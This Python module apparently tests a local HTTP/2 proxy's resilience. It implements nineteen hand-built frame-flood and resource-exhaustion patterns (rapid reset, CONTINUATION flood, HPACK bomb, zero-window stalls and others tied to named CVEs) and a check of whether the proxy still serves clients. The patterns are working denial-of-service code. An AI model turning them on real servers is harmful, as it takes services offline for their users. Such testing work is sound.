"""Abuse of HTTP/2 in frames written by hand: one function per pattern.

A pattern sends a bounded number of frames and returns the connection and the number it sent. It stops
as soon as the proxy ends the connection.
"""

import select
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9)
ACK = END_STREAM = 0x1
END_HEADERS = 0x4
PADDED = 0x8
CANCEL = 8
HEADER_TABLE_SIZE, INITIAL_WINDOW = 1, 4
WINDOW_MAX = 0x7FFF_FFFF
PATIENCE_S = 5.0


def frame(kind, flags, stream, payload=b""):
    """The bytes of one frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def settings(*pairs):
    """A SETTINGS frame with these (identifier, value) pairs."""
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


def integer(value, bits, first):
    """An HPACK integer with a prefix of `bits` bits; `first` holds the bits before it."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def literal(name, value, indexed=False):
    """An HPACK field without Huffman coding; `indexed` adds it to the dynamic table."""
    parts = [b"\x40" if indexed else b"\x00"]
    for text in (name, value):
        parts += [integer(len(text), 7, 0), text]
    return b"".join(parts)


def request(path=b"/bytes/100", method=b"GET"):
    """The header block of a request."""
    fields = [(b":method", method), (b":scheme", b"http"), (b":authority", b"localhost"), (b":path", path)]
    return b"".join(literal(*field) for field in fields)


def headers(stream, block=None, end=True):
    """A HEADERS frame that is complete; `end` closes the stream."""
    flags = END_HEADERS | (END_STREAM if end else 0)
    return frame(HEADERS, flags, stream, request() if block is None else block)


def odd_streams(count):
    """The numbers of a client's first `count` streams."""
    return range(1, 2 * count, 2)


class Connection:
    """A client's connection. `ended` says how the proxy ended it; None while it is open."""

    def __init__(self, port, *pairs):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=PATIENCE_S)
        self.socket.setblocking(False)
        self.ended = None
        self.data_bytes = 0
        self.received = b""
        self.send(PREFACE + settings(*pairs) + frame(SETTINGS, ACK, 0))

    def send(self, data):
        """Sends `data` while it reads; whether the connection is still open."""
        view, deadline = memoryview(data), time.monotonic() + PATIENCE_S
        while view and not self.ended:
            readable, writable, _ = select.select([self.socket], [self.socket], [], PATIENCE_S)
            if readable:
                self.read()
            try:
                view = view[self.socket.send(view):] if writable else view
            except BlockingIOError:
                pass
            except OSError:
                self.watch(0.2)
                self.ended = self.ended or "closed"
            if view and time.monotonic() > deadline:
                self.ended = self.ended or "stopped reading"
        self.watch(0)
        return not self.ended

    def watch(self, seconds, until=lambda connection: False):
        """Reads for so long, until the connection ends or `until` is true."""
        deadline = time.monotonic() + seconds
        while not self.ended and not until(self):
            left = max(0, deadline - time.monotonic())
            if not select.select([self.socket], [], [], left)[0]:
                return
            self.read()

    def read(self):
        """Reads once."""
        try:
            data = self.socket.recv(256 * 1024)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self.ended = self.ended or "closed"
        self.received += data
        while len(self.received) >= 9:
            end = 9 + int.from_bytes(self.received[:3], "big")
            if len(self.received) < end:
                return
            kind, payload = self.received[3], self.received[9:end]
            self.received = self.received[end:]
            if kind == GOAWAY:
                self.ended = f"GOAWAY {struct.unpack('>I', payload[4:8])[0]}"
            elif kind == DATA:
                self.data_bytes += len(payload)

    def close(self):
        """Closes the socket."""
        self.socket.close()


def repeat(port, portion, frames, times, before=b""):
    """Sends `portion`, which holds `frames` frames, `times` times."""
    connection = Connection(port)
    sent = 0
    if not before or connection.send(before):
        for _ in range(times):
            if not connection.send(portion):
                break
            sent += frames
    return connection, sent


def per_stream(port, count, make, at_once=1):
    """Sends `make(stream)` for `count` streams, those of `at_once` streams in one write."""
    connection, sent = Connection(port), 0
    streams = odd_streams(count)
    for at in range(0, count, at_once):
        portion = streams[at:at + at_once]
        if not connection.send(b"".join(map(make, portion))):
            break
        sent += len(portion)
    return connection, sent


def rapid_reset(port):
    reset = struct.pack(">I", CANCEL)
    return per_stream(port, 60_000, lambda s: headers(s) + frame(RST_STREAM, 0, s, reset), at_once=50)


def provoked(offence):
    """Each request is followed by a frame for which the proxy must reset its stream (CVE-2025-8671)."""
    return lambda port: per_stream(port, 8_000, lambda stream: headers(stream) + offence(stream))


def window_of_zero(stream):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def window_overflow(stream):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", WINDOW_MAX))


def data_after_end(stream):
    return frame(DATA, 0, stream, b"x")


def depends_on_itself(stream):
    return frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 1))


def continuations(port):
    field = literal(b"x-flood", b"v" * 1000)
    start = frame(HEADERS, END_STREAM, 1, request())
    return repeat(port, frame(CONTINUATION, 0, 1, field), 1, 20_000, before=start)


def empty_continuations(port):
    start = frame(HEADERS, END_STREAM, 1, request())
    return repeat(port, frame(CONTINUATION, 0, 1) * 100, 100, 1_000, before=start)


def settings_flood(port):
    return repeat(port, settings((INITIAL_WINDOW, 70_000)) * 200, 200, 500)


def table_sizes(port):
    pair = settings((HEADER_TABLE_SIZE, 0)) + settings((HEADER_TABLE_SIZE, 4096))
    return repeat(port, pair * 100, 200, 500)


def pings(port):
    return repeat(port, frame(PING, 0, 0, b"12345678") * 200, 200, 1_000)


def empty_data(port):
    start = headers(1, request(method=b"POST"), end=False)
    return repeat(port, frame(DATA, 0, 1) * 200, 200, 1_000, before=start)


def padding_only(port):
    start = headers(1, request(method=b"POST"), end=False)
    padded = frame(DATA, PADDED, 1, b"\x07" + bytes(7))
    return repeat(port, padded * 200, 200, 1_000, before=start)


def priorities(port):
    frames = [frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 1)) for stream in odd_streams(200)]
    return repeat(port, b"".join(frames), 200, 5_000)


def window_updates(port):
    """Window updates for the connection although no DATA was received."""
    return repeat(port, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 200, 200, 500)


def table_bomb(port):
    """One large field in the dynamic table, and thousands of references to it in each request."""
    connection, sent = Connection(port), 0
    connection.send(headers(1, request() + literal(b"x-b", b"A" * 3_900, indexed=True)))
    bomb = request() + integer(62, 7, 0x80) * 4_000
    for stream in odd_streams(401)[1:]:
        if not connection.send(headers(stream, bomb)):
            break
        sent += 1
    return connection, sent


def empty_names(port):
    block = request() + literal(b"", b"") * 4_000
    return per_stream(port, 1_000, lambda stream: headers(stream, block))


def no_window(port):
    """Requests for large responses, with an initial window of 0."""
    connection = Connection(port, (INITIAL_WINDOW, 0))
    portion = b"".join(headers(s, request(b"/bytes/1000000")) for s in odd_streams(200))
    connection.send(portion)
    connection.watch(0.5)
    return connection, 200


def tiny_windows(port):
    connection, sent = Connection(port, (INITIAL_WINDOW, 1)), 0
    connection.send(headers(1, request(b"/bytes/100000")))
    for _ in range(3_000):
        if not connection.send(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))):
            break
        sent += 1
    return connection, sent


def open_streams(port):
    connection = Connection(port)
    block = request(method=b"POST")
    connection.send(b"".join(headers(stream, block, end=False) for stream in odd_streams(5_000)))
    connection.watch(0.5)
    return connection, 5_000


PATTERNS = {
    "rapid reset (CVE-2023-44487)": rapid_reset,
    "provoked reset: WINDOW_UPDATE of 0": provoked(window_of_zero),
    "provoked reset: window overflow": provoked(window_overflow),
    "provoked reset: DATA after the end": provoked(data_after_end),
    "provoked reset: PRIORITY on itself": provoked(depends_on_itself),
    "CONTINUATION flood (CVE-2024-27316)": continuations,
    "empty CONTINUATION flood": empty_continuations,
    "SETTINGS flood (CVE-2019-9515)": settings_flood,
    "SETTINGS flood of table sizes": table_sizes,
    "PING flood (CVE-2019-9512)": pings,
    "empty DATA flood (CVE-2019-9518)": empty_data,
    "DATA flood of padding": padding_only,
    "PRIORITY flood": priorities,
    "WINDOW_UPDATE flood": window_updates,
    "HPACK bomb": table_bomb,
    "empty field names (CVE-2019-9516)": empty_names,
    "responses without a window (CVE-2019-9517)": no_window,
    "windows of one octet (CVE-2019-9511)": tiny_windows,
    "5 000 open streams": open_streams,
}


def is_served(port, seconds=2.0):
    """Whether a new client gets an answer in time."""
    try:
        connection = Connection(port)
    except OSError:
        return False
    connection.send(headers(1))
    connection.watch(seconds, until=lambda client: client.data_bytes >= 100)
    connection.close()
    return connection.data_bytes >= 100
